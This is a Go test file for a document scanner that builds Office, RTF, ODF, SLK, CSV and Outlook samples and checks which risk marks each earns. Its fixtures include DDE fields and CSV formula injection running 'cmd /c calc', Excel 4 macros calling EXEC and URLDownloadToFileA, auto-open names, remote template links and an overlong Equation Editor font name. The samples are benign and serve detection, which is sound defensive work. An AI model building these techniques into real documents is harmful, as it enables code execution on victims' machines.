package document

import (
	"bytes"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"slices"
	"strings"
	"testing"
	"unicode/utf16"

	"spamcatcher/signatures/unpack/format"
	"spamcatcher/signatures/unpack/unpacktest"
)

// record is a record of a workbook stream.
func record(id uint16, value ...byte) []byte {
	b := binary.LittleEndian.AppendUint16(nil, id)
	return append(binary.LittleEndian.AppendUint16(b, uint16(len(value))), value...)
}

// book is a workbook of Excel 97 with these records, padded so that it is no small
// stream.
func book(records ...[]byte) []byte {
	return unpacktest.OLE(unpacktest.File{Name: "Workbook", Data: stream(records...)})
}

func stream(records ...[]byte) []byte {
	b := slices.Concat(append([][]byte{record(recordBOF, 0, 6, 5, 0, 0, 0, 0, 0)}, records...)...)
	return append(b, record(0x000A, make([]byte, 6000)...)...)
}

// label is a defined name; built-in ones are a number.
func label(builtin bool, name string) []byte {
	v := make([]byte, 15)
	if builtin {
		v[0] = 0x20
	}
	v[3] = byte(len(name))
	return record(recordName, append(v, name...)...)
}

func sheet(state, kind byte) []byte {
	return record(recordSheet, 0, 0, 0, 0, state, kind, 6, 0, 'S', 'h', 'e', 'e', 't', '1')
}

// macroSheet begins a macro sheet, formula is a cell of one.
func macroSheet() []byte { return record(recordBOF, 0, 6, 0x40, 0, 0, 0, 0, 0) }

func formula(tokens ...byte) []byte {
	v := make([]byte, 22)
	v[20] = byte(len(tokens))
	return record(recordFormula, append(v, tokens...)...)
}

func link(items byte, path string) []byte {
	v := append([]byte{1, 0, byte(len(path)), 0, 0}, path...)
	return slices.Concat(record(recordSupBook, v...), record(recordExtern, items, 0, 0, 0, 0, 0, 1, 0, 'A'))
}

// xlsb is a part of a binary workbook that links to a program or a file.
func xlsb(first, second, kind byte, texts ...string) []byte {
	v := []byte{kind, 0}
	for _, s := range texts {
		v = append(binary.LittleEndian.AppendUint32(v, uint32(len(s))), utf16le(s)...)
	}
	return append([]byte{first, second, byte(len(v))}, v...)
}

// xlsbName is a defined name of a binary workbook.
func xlsbName(name string) []byte {
	v := binary.LittleEndian.AppendUint32(make([]byte, 9), uint32(len(name)))
	v = append(v, utf16le(name)...)
	return append([]byte{39, byte(len(v))}, v...)
}

// slide is a PowerPoint record of what a click on a shape does.
func slide(action byte) []byte {
	return append([]byte{0, 0, 0xF3, 0x0F, 16, 0, 0, 0}, 0, 0, 0, 0, 0, 0, 0, 0, action, 0, 0, 0, 0, 0, 0, 0)
}

// mtef is an equation whose font's name has so many letters.
func mtef(letters int) []byte {
	b := append([]byte{28, 0}, make([]byte, 26)...)
	b = append(b, 3, 1, 1, 3, 10, 8, 1, 1)
	return append(append(b, bytes.Repeat([]byte{'A'}, letters)...), 0, 0)
}

const (
	wordNS   = `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">`
	relsNS   = `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`
	relation = `<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" Target="%s" TargetMode="%s"/></Relationships>`
	odfNS    = `<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0">`
)

func rel(kind, target, mode string) []byte {
	return fmt.Appendf(nil, relsNS+relation, kind, target, mode)
}

func utf16le(s string) []byte {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		b = binary.LittleEndian.AppendUint16(b, u)
	}
	return b
}

func swapped(b []byte) []byte {
	for i := 0; i+1 < len(b); i += 2 {
		b[i], b[i+1] = b[i+1], b[i]
	}
	return b
}

// run is a run of a field's code in Word's XML.
func run(code string) string {
	return `<w:r><w:instrText xml:space="preserve">` + code + `</w:instrText></w:r>`
}

func char(kind string) string { return `<w:r><w:fldChar w:fldCharType="` + kind + `"/></w:r>` }

// rtfHolding is RTF with an OLE1 object of a class.
func rtfHolding(header, class string, native []byte) []byte {
	le := binary.LittleEndian
	b := le.AppendUint32(le.AppendUint32(nil, 0x501), 2)
	b = append(le.AppendUint32(b, uint32(len(class)+1)), class+"\x00"...)
	b = append(b, make([]byte, 8)...)
	b = append(le.AppendUint32(b, uint32(len(native))), native...)
	return fmt.Appendf(nil, `%s\ansi text {\object\objemb{\*\objclass %s}{\*\objdata %x}}}`, header, class, b)
}

func doc(text string) []byte {
	b := make([]byte, 4200)
	copy(b, "\xec\xa5\xc1\x00")
	copy(b[1024:], text)
	return unpacktest.OLE(unpacktest.File{Name: "WordDocument", Data: b})
}

// oleLink is an OLE stream with the moniker of an address.
func oleLink(class, address string) []byte {
	b := append([]byte("\x01\x00\x00\x02\x09\x00\x00\x00"), class...)
	text := utf16le(address + "\x00")
	b = binary.LittleEndian.AppendUint32(b, uint32(len(text)))
	return unpacktest.OLE(unpacktest.File{Name: "\x01Ole", Data: append(b, text...)}, unpacktest.File{Name: "data", Data: []byte("x")})
}

// TestMarks has, for every mark but those of macros, a file that earns it and one
// that nearly does.
func TestMarks(t *testing.T) {
	exec := []byte{0x17, 4, 0, 'c', 'a', 'l', 'c', 0x42, 1, 110, 0}
	sum := []byte{0x1E, 1, 0, 0x1E, 2, 0, 0x03}
	for _, c := range []struct {
		name string
		data []byte
		want string
	}{
		{"fields.xml", []byte(wordNS + char("begin") + run("DDE") + run("AUTO cmd ") + run(`"/c calc"`) + char("end")), "dde"},
		{"fields.xml", []byte(wordNS + char("begin") + run("DDEAUTO ") + char("begin") + run("QUOTE 99 109 100") + char("end") + char("end")), "dde"},
		{"nested first", []byte(wordNS + char("begin") + char("begin") + run("QUOTE 68 68 69") + char("end") + run(" cmd") + char("end")), "dde"},
		{"simple", []byte(wordNS + `<w:fldSimple w:instr="&#68;DE excel book"/>`), "dde"},
		{"page number", []byte(wordNS + char("begin") + run("PAGE ") + char("end") + "<w:t>DDEAUTO is a field</w:t>"), ""},
		{"utf16.xml", append([]byte("\xff\xfe"), utf16le(wordNS+`<w:fldSimple w:instr="DDE a b"/>`)...), "dde"},
		{"utf16be.xml", append([]byte("\xfe\xff"), swapped(utf16le(wordNS+`<w:fldSimple w:instr="DDE a b"/>`))...), "dde"},
		{"utf16 without mark", utf16le(wordNS + `<w:fldSimple w:instr="DDE a b"/>`), "dde"},
		{"utf16be without mark", swapped(utf16le(wordNS + `<w:fldSimple w:instr="PAGE"/>`)), ""},
		{"comment first", unpacktest.Zip(0, unpacktest.File{Name: "word/document.xml", Data: []byte("<!-- <html> --><x xmlns='http://purl.oclc.org/ooxml/a'/><w:fldSimple w:instr='DDEAUTO a b'/>")}), "dde"},
		{"long comment first", unpacktest.Zip(0, unpacktest.File{Name: "word/document.xml", Data: []byte("<!--" + strings.Repeat("-", 9000) + "--><x xmlns='http://purl.oclc.org/ooxml/a'/><w:fldSimple w:instr='DDEAUTO a b'/>")}), "dde"},
		{"a page", []byte("<!-- <html> --><x xmlns='http://purl.oclc.org/ooxml/a'/><w:fldSimple w:instr='DDEAUTO a b'/>"), ""},
		{"sheet.xml", []byte(strings.Replace(wordNS, "w:document", "externalLink", 1) + `<ddeLink ddeService="cmd" ddeTopic="/c calc"/>`), "dde"},
		{"sheet.xml", []byte(strings.Replace(wordNS, "w:document", "externalLink", 1) + `<externalBook/>`), ""},
		{"2003.xml", []byte(`<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Cell ss:Formula="=cmd|'/c calc'!A1"/>`), "dde"},
		{"2003.xml", []byte(`<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Cell ss:Formula="=SUM(Sheet1!A1)"/>`), ""},
		{"template.rels", rel("attachedTemplate", "https://example.test/t.dotm", "External"), "external"},
		{"template.rels", rel("attachedTemplate", `\\192.0.2.1\share\t.dotm`, "External"), "external"},
		{"template.rels", rel("attachedTemplate", "file:///C:\\Users\\me\\Normal.dotm", "External"), ""},
		{"object.rels", rel("oleObject", "mhtml:http://example.test/a.html!x-usc:http://example.test/a.html", "External"), "external"},
		{"template.rels", rel("attachedTemplate", "file:///home/me/t.dotm", "External"), ""},
		{"template.rels", rel("attachedTemplate", "file://192.0.2.1/share/t.dotm", "External"), "external"},
		{"object.rels", rel("oleObject", "embeddings/oleObject1.bin", "Internal"), ""},
		{"link.rels", rel("hyperlink", "https://example.com/", "External"), ""},
		{"picture.rels", rel("image", "https://example.com/logo.png", "External"), ""},
		{"workbook.rels", rel("externalLinkPath", "https://example.com/prices.xlsx", "External"), ""},
		{"macros.rels", []byte(relsNS + `<Relationship Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="macrosheets/sheet1.xml"/></Relationships>`), "macro_sheet"},
		{"macro.xml", []byte(`<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><c><f>EXEC("calc")</f></c></xm:macrosheet>`), "macro_execute macro_sheet"},
		{"sheet.xml", []byte(`<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><c><f>EXEC("calc")</f></c></worksheet>`), ""},
		{"macro.xml", []byte(`<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><c><f>CALL("urlmon","URLDownloadToFileA","JJCCJJ")</f></c></xm:macrosheet>`), "macro_download macro_execute macro_sheet"},
		{"workbook.xml", []byte(`<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><definedName name="_xlnm.Auto_Open" hidden="1">a!$A$1</definedName>`), "macro_autorun"},
		{"workbook.xml", []byte(`<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><definedName name="_xlnm.Print_Area">a!$A$1</definedName>`), ""},
		{"ui.xml", []byte(`<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="Start"/>`), "macro_autorun"},
		{"ui.xml", []byte(`<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui"><button onAction="Go"/></customUI>`), ""},
		{"slide.xml", []byte(strings.Replace(wordNS, "w:document", "p:sld", 1) + `<a:hlinkMouseOver action="ppaction://program" r:id="r2"/>`), "macro_execute"},
		{"slide.xml", []byte(strings.Replace(wordNS, "w:document", "p:sld", 1) + `<a:hlinkClick action="ppaction://hlinkshowjump?jump=nextslide"/>`), ""},

		{"Basic/Module1.xml", []byte(`<?xml version="1.0"?><script:module xmlns:script="http://openoffice.org/2000/script" script:name="M">Sub Main&#10;Shell(&quot;calc&quot;)&#10;End Sub</script:module>`), "macro macro_execute"},
		{"Basic/Module1.xml", []byte(`<?xml version="1.0"?><script:module xmlns:script="http://openoffice.org/2000/script" script:name="M"> </script:module>`), ""},
		{"content.xml", []byte(odfNS + `<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic"/>`), "macro_autorun"},
		{"content.xml", []byte(odfNS + `<script:event-listener script:event-name="dom:click" xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic"/>`), ""},
		{"content.xml", []byte(odfNS + `<table:dde-source office:dde-application="cmd" office:dde-topic="/c calc"/>`), "dde"},
		{"content.xml", []byte(odfNS + `<table:dde-source office:dde-application="soffice" office:dde-topic="a.ods"/>`), ""},
		{"meta.xml", []byte(odfNS + `<meta:template xlink:href="http://example.test/t.ott"/>`), "external"},
		{"meta.xml", []byte(odfNS + `<meta:template xlink:href="../t.ott"/>`), ""},
		{"manifest.xml", []byte(`<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:encryption-data/>`), "office_locked"},

		{"auto.xls", book(sheet(2, 1), label(true, "\x01"), macroSheet(), formula(exec...)), "macro_autorun macro_execute macro_sheet"},
		{"quiet.xls", book(sheet(0, 1), macroSheet(), formula(sum...)), "macro_sheet"},
		{"plain.xls", book(sheet(0, 0), label(true, "\x06"), formula(exec...)), ""},
		{"dde.xls", book(sheet(0, 0), link(0, "cmd\x03/c calc")), "dde"},
		{"linked.xls", book(sheet(0, 0), link(0x10, "Word.Document\x03C:\\a.doc")), ""},
		{"other.xls", book(sheet(0, 0), link(0, "\x01C:\\prices.xls")), ""},
		{"locked.xls", book(record(recordFilePass, 0, 0, 1, 2, 3, 4), sheet(0, 0)), "office_locked"},
		{"a.xlsb", unpacktest.Zip(0, unpacktest.File{Name: "xl/externalLinks/externalLink1.bin", Data: xlsb(0xe8, 2, 1, "cmd", "/c calc")}), "dde"},
		{"a.xlsb", unpacktest.Zip(0, unpacktest.File{Name: "xl/externalLinks/externalLink1.bin", Data: xlsb(0xe8, 2, 0, "rId1", "")}), ""},
		{"a.xlsb", unpacktest.Zip(0, unpacktest.File{Name: "xl/workbook.bin", Data: append([]byte{0x83, 1, 0}, xlsbName("_xlnm.Auto_Open")...)}), "macro_autorun"},
		{"a.xlsb", unpacktest.Zip(0, unpacktest.File{Name: "xl/workbook.bin", Data: append([]byte{0x83, 1, 0}, xlsbName("_xlnm.Print_Area")...)}), ""},
		{"a.xlsb", unpacktest.Zip(0, unpacktest.File{Name: "xl/macrosheets/sheet1.bin", Data: []byte("\x81\x01\x00\x08\x0b\x00\x00\x17\x01\x00a\x00\x42\x01\x6e\x00")}), "macro_execute macro_sheet"},
		{"a.xlsb", unpacktest.Zip(0, unpacktest.File{Name: "xl/worksheets/sheet1.bin", Data: []byte("\x81\x01\x00\x08\x0b\x00\x00\x17\x01\x00a\x00\x42\x01\x6e\x00")}), ""},

		{"a.ppt", unpacktest.OLE(unpacktest.File{Name: "PowerPoint Document", Data: slide(2)}), "macro_execute"},
		{"a.ppt", unpacktest.OLE(unpacktest.File{Name: "PowerPoint Document", Data: slide(4)}), ""},
		{"a.ppt", unpacktest.OLE(unpacktest.File{Name: "EncryptedSummary", Data: slide(4)}), "office_locked"},
		{"a.doc", unpacktest.OLE(unpacktest.File{Name: "Equation Native", Data: mtef(60)}), "rtf_exploit"},
		{"a.doc", unpacktest.OLE(unpacktest.File{Name: "Equation Native", Data: mtef(12)}), ""},
		{"a.slk", []byte("ID;P\nO;E\nNN;NAuto_Open;ER1C1\nC;X1;Y1;K0;EEXEC(\"calc\")\nE\n"), "macro_autorun macro_execute macro_sheet"},
		{"a.slk", []byte("ID;P\nO;E\nC;X1;Y1;K0;ESUM(R1C1)\nE\n"), "macro_sheet"},
		{"a.slk", []byte("ID;PWXL;N;E\nC;X1;Y1;K0;ESUM(R1C1)\nE\n"), ""},
		{"a.iqy", []byte("WEB\r\n1\r\nhttps://example.test/data.txt\r\n"), "external"},
		{"a.iqy", []byte("WEBINAR on https://example.com/\r\n"), ""},
		{"a.csv", []byte("a,b\n1,=cmd|'/c calc'!A1\n"), "dde"},
		{"a.csv", []byte("a|b,c!\n1,-2|3 4!\n"), ""},
		{"a.txt", []byte("write =cmd|'/c calc'!A1 into a cell to see it\n"), ""},
		{"a.xll", slices.Concat([]byte("MZ\x90\x00"), make([]byte, 60), []byte("\x00xlAutoOpen\x00")), "macro_autorun"},
		{"a.dll", slices.Concat([]byte("MZ\x90\x00"), make([]byte, 60), []byte("\x00DllMain\x00")), ""},

		{"a.doc", doc("\x13 DDEAUTO cmd \"/c calc\" \x14result\x15"), "dde"},
		{"a.doc", doc("\x13 PAGE \x141\x15 DDEAUTO"), ""},
		{"w.doc", doc("\x13\x00" + string(utf16le("DDEAUTO c:\\cmd x\x15"))), "dde"},
		{"locked.doc", unpacktest.OLE(unpacktest.File{Name: "WordDocument", Data: append([]byte("\xec\xa5\xc1\x00\x00\x00\x00\x00\x00\x00\x00\x01"), make([]byte, 5000)...)}), "office_locked"},
		{"a.doc", unpacktest.Doc(unpacktest.File{Name: "prices.txt", Data: []byte("text")}), "embedded_file"},
		{"a.doc", oleLink(urlMoniker, "http://example.test/a.hta"), "external"},
		{"a.doc", oleLink("0123456789abcdef", "C:\\Users\\me\\book.xls"), ""},

		{"a.rtf", unpacktest.RTF(unpacktest.File{Name: "a.js", Data: []byte("x")}, ""), "embedded_file rtf_object"},
		{"a.rtf", rtfHolding(`{\rtf1`, "eQuAtIoN.3", []byte("data")), "rtf_exploit rtf_object"},
		{"a.rtf", rtfHolding(`{\rtf1`, "Word.Document.8", []byte("data")), "rtf_object"},
		{"a.rtf", rtfHolding(`{\rtxa`, "Word.Document.8", []byte("data")), "rtf_exploit rtf_object"},
		{"a.rtf", []byte(`{\rtxa no object}`), ""},
		{"a.rtf", rtfHolding(`{\rtf1`, "OLE2Link", oleLink(urlMoniker, "http://example.test/a.hta")), "external rtf_object"},
		{"a.rtf", []byte(`{\rtf1{\*\template http://example.test/t.dotm}}`), "external"},
		{"a.rtf", []byte(`{\rtf1{\*\template C:\\Office\\t.dotm}}`), ""},
		{"a.rtf", []byte(`{\rtf1{\field{\*\fldinst {\rtlch DDE}{AUTO cmd "/c calc"}}{\fldrslt x}}}`), "dde"},
		{"a.rtf", []byte(`{\rtf1{\field{\*\fldinst HYPERLINK "https://example.com/"}{\fldrslt DDEAUTO}}}`), ""},
	} {
		got := open(t, c.name, c.data)
		if marks := strings.Join(got.kinds(), " "); marks != c.want {
			t.Errorf("%s %.120q: marks %q, want %q: %v", c.name, c.data, marks, c.want, got.marks)
		}
	}
}

// TestHiddenInRTF: an object is found whatever is written between its digits.
func TestHiddenInRTF(t *testing.T) {
	for _, junk := range []string{"", " \t", `{\*\x 4142}`, `{}`, `\par `, `\'41`, "{\\*\\pic 00{\\x 1}ff}", "\\zzzz123 ", "\x00\x01g\xff"} {
		got := open(t, "a.rtf", unpacktest.RTF(unpacktest.File{Name: "a.js", Data: []byte("WScript.Echo(1)")}, junk))
		if text := got.text(format.Object); text != "WScript.Echo(1)\n" {
			t.Errorf("%q: %q", junk, text)
		}
	}
	// Data as they are, and data that no brace closes.
	native := unpacktest.Package(unpacktest.File{Name: "b.js", Data: []byte("{}}\\")})[4:]
	head := append([]byte("\x01\x05\x00\x00\x02\x00\x00\x00\x08\x00\x00\x00Package\x00"), make([]byte, 8)...)
	head = append(binary.LittleEndian.AppendUint32(head, uint32(len(native))), native...)
	for _, end := range []string{"}}}", ""} {
		text := fmt.Sprintf(`{\rtf1{\object{\*\objdata \bin%d %s`, len(head), head)
		if got := open(t, "b.rtf", []byte(text+end)).text(format.Object); got != "{}}\\\n" {
			t.Errorf("%q", got)
		}
	}
}

// TestMessage: what Outlook saves gives its body and its attachments.
func TestMessage(t *testing.T) {
	got := open(t, "a.msg", unpacktest.Msg(unpacktest.File{Name: "prices.txt", Data: []byte("attached")}))
	if text := got.text(format.Part); !strings.Contains(text, "Please see the file.") || !strings.Contains(text, "attached") {
		t.Errorf("%q", text)
	}
	if !slices.ContainsFunc(got.files, func(f format.File) bool { return f.Name == "prices.txt" }) {
		t.Error("the attachment has lost its name")
	}
	if n := len(rtfDictionary); n != 207 {
		t.Errorf("the dictionary of compressed RTF has %d bytes, not the 207 of the standard", n)
	}
	// [MS-OXRTFCP] section 3.1.1.
	packed := "\x2d\x00\x00\x00\x2b\x00\x00\x00LZFu\xf1\xc5\xc7\xa7\x03\x00\x0a\x00rcpg125\x42\x32\x0a\xf3 hel\x09\x00\x20bw\x05\xb0ld}\x0a\x80\x0f\xa0"
	j := format.NewJob(t.Context(), format.Limits{}, nil, nil, func(*format.File) error { return nil })
	if text, err := uncompressRTF(j, []byte(packed)); err != nil || string(text) != "{\\rtf1\\ansi\\ansicpg1252\\pard hello world}\r\n" {
		t.Errorf("%q, %v", text, err)
	}
}

// TestObjects: what is embedded comes out, however it is wrapped.
func TestObjects(t *testing.T) {
	inner := unpacktest.Doc(unpacktest.File{Name: "prices.js", Data: []byte("WScript.Echo(1)")})
	sized := append(binary.LittleEndian.AppendUint32(nil, uint32(len(inner))), unpacktest.Zlib(inner)...)
	mime := append([]byte("ActiveMime"), make([]byte, 40)...)
	mime = append(mime, unpacktest.Zlib(inner)...)
	atom := func(instance byte, data []byte) []byte {
		return append(binary.LittleEndian.AppendUint32([]byte{instance << 4, 0, 0x11, 0x10}, uint32(len(data))), data...)
	}
	flat := func(element, attribute string, data []byte) []byte {
		return fmt.Appendf(nil, `<?xml version="1.0"?><x xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"><%s %s="a">%s</%[1]s></x>`, element, attribute, base64.StdEncoding.EncodeToString(data))
	}
	for name, data := range map[string][]byte{
		"plain":              inner,
		"activemime":         mime,
		"flat package":       flat("pkg:binaryData", "pkg:name", inner),
		"flat 2003":          flat("w:binData", "w:name", mime),
		"presentation":       unpacktest.OLE(unpacktest.File{Name: "PowerPoint Document", Data: atom(1, sized)}),
		"presentation plain": unpacktest.OLE(unpacktest.File{Name: "PowerPoint Document", Data: atom(0, inner)}),
		"numbered stream":    unpacktest.OLE(unpacktest.File{Name: "_1234567", Data: sized}),
		"package stream":     unpacktest.OLE(unpacktest.File{Name: "MBD01/Package", Data: unpacktest.Zip(8, unpacktest.File{Name: "a.doc", Data: inner})}),
		"RTF":                rtfHolding(`{\rtf1`, "Word.Document.8", inner),
		"outlook":            unpacktest.Msg(unpacktest.File{Name: "a.doc", Data: inner}),
	} {
		got := open(t, name, data)
		if !slices.ContainsFunc(got.files, func(f format.File) bool {
			return f.Kind == format.Object && f.Name == "prices.js" && string(f.Data) == "WScript.Echo(1)"
		}) {
			t.Errorf("%s: the script does not come out: %v", name, got.marks)
		}
	}
}
